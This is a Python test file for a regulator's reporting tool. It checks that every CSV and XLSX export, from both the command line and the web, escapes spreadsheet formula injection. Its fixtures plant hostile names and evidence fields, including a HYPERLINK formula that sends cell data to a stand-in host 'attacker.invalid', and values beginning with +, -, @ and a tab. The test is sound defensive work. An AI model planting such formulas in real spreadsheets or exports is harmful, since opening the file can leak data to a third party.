"""No export of any kind holds a live formula: hostile names through every CSV and XLSX writer.

A small generated (synthetic) country gets names a spreadsheet would run: a trust called
``=HYPERLINK(...)``, others beginning ``+``, ``-``, ``@`` and a tab, an Improvement Director named
``=HYPERLINK(...)``, evidence whose ref, title, summary and quote are formulas. Then every export
is written, from the command line (CSV on standard output, CSV files, every workbook: watch list,
evidence matrix, board/OAG pack, interventions matrix, costs) and from the web (the CSV
downloads). Each cell must be inert: no workbook cell is a formula, no text begins with a formula
character unescaped, and the hostile text is there, escaped (so the test saw it).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import select, update

from specialmeasures.access import Role
from specialmeasures.cli.main import cli
from specialmeasures.evaluation.evidence_store import import_evidence
from specialmeasures.reports.cells import FORMULA_TRIGGERS, is_live_formula
from specialmeasures.store.tables import director_assignments, improvement_directors, providers
from web_country import AT, World, build_world, client_for

LINK = '=HYPERLINK("https://attacker.invalid/?d="&A1,"Open")'
NAMES = {
    "own": LINK,
    "plus": "+44 trust (synthetic)",
    "minus": "-2+3 trust (synthetic)",
    "at": "@SUM(A1:A9) trust (synthetic)",
    "tab": "\t=1+1 trust (synthetic)",
}
DIRECTOR = '=HYPERLINK("https://attacker.invalid/director","Director")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[World, str, Path]]:
    folder = tmp_path_factory.mktemp("hostile")
    world = build_world(folder)
    engine = world.platform.engine
    with engine.begin() as conn:
        codes = sorted(conn.execute(select(providers.c.code)).scalars())
        others = [c for c in codes if c != world.own][:4]
        for code, name in zip([world.own, *others], NAMES.values(), strict=True):
            conn.execute(update(providers).where(providers.c.code == code).values(name=name))
        director = conn.execute(
            select(director_assignments.c.director_id).where(
                director_assignments.c.provider_code == world.own
            )
        ).scalar()
        conn.execute(
            update(improvement_directors)
            .where(improvement_directors.c.id == director)
            .values(name=DIRECTOR)
        )
    evidence = folder / "evidence.csv"
    evidence.write_text(
        "ref,site,date,source_type,tier,title,rap_context,rap_interventions,rap_drivers,"
        "rap_barriers,rap_unintended_consequences,rap_sustainability,quote,codes\n"
        f'"=R1",{world.own},2016-06-01,interview,senior,"{LINK.replace(chr(34), chr(34) * 2)}",'
        '"+1+1",,,,,,"@cmd quote||-5+5",governance\n',
        encoding="utf-8",
    )
    import_evidence(world.platform.repository, evidence, at=AT)
    url = str(engine.url.render_as_string(hide_password=False))
    try:
        yield world, url, folder
    finally:
        world.platform.close()


def run(url: str, *args: str) -> str:
    result = CliRunner().invoke(cli, list(args), env={"SPECIALMEASURES_DATABASE_URL": url})
    assert result.exit_code == 0, (result.output, result.exception)
    return result.stdout


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(cells: list[object], *, expect: tuple[str, ...]) -> None:
    """No cell would run; and each ``expect`` text is present, escaped with an apostrophe."""
    live = [c for c in cells if is_live_formula(c)]
    assert live == []
    text = [c for c in cells if isinstance(c, str)]
    for hostile_text in expect:
        assert any(c == "'" + hostile_text or c.startswith("'" + hostile_text) or
                   ("'" + hostile_text) in c for c in text), hostile_text  # fmt: skip


def xlsx_cells(path: Path) -> list[object]:
    book = load_workbook(path)
    cells: list[object] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


def test_cli_csv_on_standard_output(hostile: tuple[World, str, Path]) -> None:
    _, url, _ = hostile
    out = run(url, "providers", "--as-of", "2016-12-01", "--format", "csv")
    assert_inert(csv_cells(out), expect=(LINK, NAMES["minus"], NAMES["at"], NAMES["plus"]))
    out = run(url, "interventions", "matrix", "--as-of", "2016-12-01", "--format", "csv")
    assert_inert(csv_cells(out), expect=())
    out = run(url, "watchlist", "--as-of", "2016-12-01", "--format", "csv")
    assert_inert(csv_cells(out), expect=(LINK,))
    out = run(url, "costs", "--as-of", "2016-12-01", "--by", "trust", "--format", "csv")
    assert_inert(csv_cells(out), expect=())


def test_cli_csv_files(hostile: tuple[World, str, Path], tmp_path: Path) -> None:
    _, url, _ = hostile
    wide, long = tmp_path / "matrix.csv", tmp_path / "cells.csv"
    run(url, "evidence", "matrix", "--format", "csv", "-o", str(wide))
    run(url, "evidence", "matrix", "--format", "csv", "--long", "-o", str(long))
    assert_inert(csv_cells(wide.read_text()), expect=())
    assert_inert(csv_cells(long.read_text()), expect=("=R1",))


def test_every_workbook(hostile: tuple[World, str, Path], tmp_path: Path) -> None:
    world, url, _ = hostile
    books = {
        "evidence": ("evidence", "matrix", "--format", "xlsx", "-o"),
        "pack": ("interventions", "pack", world.own, "--as-of", "2016-12-01", "--format",
                 "xlsx", "--output"),
        "matrix": ("interventions", "matrix", "--as-of", "2016-12-01", "--format", "xlsx",
                   "--output"),
        "watchlist": ("watchlist", "--as-of", "2016-12-01", "--format", "xlsx", "-o"),
        "costs": ("costs", "--as-of", "2016-12-01", "--by", "trust", "--format", "xlsx", "-o"),
    }  # fmt: skip
    expected = {
        "evidence": ("=R1", LINK, "+1+1", "@cmd quote"),
        "pack": (LINK, DIRECTOR),
        "matrix": (),
        "watchlist": (LINK,),
        "costs": (),
    }
    for name, args in books.items():
        path = tmp_path / f"{name}.xlsx"
        run(url, *args, str(path))
        assert_inert(xlsx_cells(path), expect=expected[name])


def test_numbers_stay_numbers_in_workbooks(
    hostile: tuple[World, str, Path], tmp_path: Path
) -> None:
    """Escaping touches text only: the costs workbook's numeric cells (negative changes
    included) are numbers a spreadsheet can sum."""
    _, url, _ = hostile
    path = tmp_path / "costs.xlsx"
    run(url, "costs", "--as-of", "2016-12-01", "--by", "trust", "--format", "xlsx", "-o", str(path))
    numbers = [
        c for c in xlsx_cells(path) if isinstance(c, int | float) and not isinstance(c, bool)
    ]
    assert numbers
    assert any(n < 0 for n in numbers)


@pytest.mark.parametrize(
    "path",
    [
        "/providers.csv?as_of=2016-12-01",
        "/watchlist.csv?as_of=2016-12-01",
        "/interventions/matrix.csv",
        "/interventions/caseload.csv",
        "/evaluation/evidence.csv",
        "/evaluation/costs.csv",
        "/evaluation/trajectories.csv",
        "/evaluation/balancing.csv",
    ],
)
def test_web_csv_downloads(hostile: tuple[World, str, Path], path: str) -> None:
    world, _, _ = hostile
    client = client_for(world, Role.REGULATOR_ANALYST)
    response = client.get(path)
    assert response.status_code == 200, response.text[:300]
    expect = (LINK,) if path.startswith(("/providers", "/watchlist")) else ()
    assert_inert(csv_cells(response.text), expect=expect)


def test_every_formula_trigger_is_covered() -> None:
    firsts = {name[0] for name in NAMES.values()}
    assert firsts >= set(FORMULA_TRIGGERS) - {"\r"}
